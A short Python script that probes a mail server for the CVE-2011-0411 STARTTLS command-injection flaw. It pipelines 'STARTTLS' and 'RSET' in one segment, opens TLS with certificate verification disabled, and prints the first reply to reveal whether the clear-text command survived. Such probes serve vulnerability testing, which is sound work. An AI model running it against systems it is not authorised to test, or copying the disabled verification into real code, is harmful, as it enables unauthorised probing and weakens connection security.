#!/usr/bin/env python3
"""STARTTLS command injection probe (CVE-2011-0411 class).

Sends "STARTTLS\\r\\nRSET\\r\\n" in one segment. A safe server discards the RSET that
was pipelined in clear text, so after the handshake the first reply read is the one
to our EHLO. Prints the first line read over TLS.
"""
import socket
import ssl
import sys

host, port = sys.argv[1], int(sys.argv[2])
raw = socket.create_connection((host, port), timeout=30)
f = raw.makefile("rb")


def reply(stream):
    lines = []
    while True:
        line = stream.readline()
        if not line:
            return None
        lines.append(line.decode().rstrip("\r\n"))
        if line[3:4] != b"-":
            return lines


reply(f)  # greeting
raw.sendall(b"EHLO probe.test\r\n")
reply(f)
raw.sendall(b"STARTTLS\r\nRSET\r\n")
first = reply(f)
assert first[0].startswith("220"), first
ctx = ssl.create_default_context()
ctx.check_hostname = False
ctx.verify_mode = ssl.CERT_NONE
tls = ctx.wrap_socket(raw, server_hostname=host)
tf = tls.makefile("rb")
tls.sendall(b"EHLO probe.test\r\n")
after = reply(tf)
print(after[0])
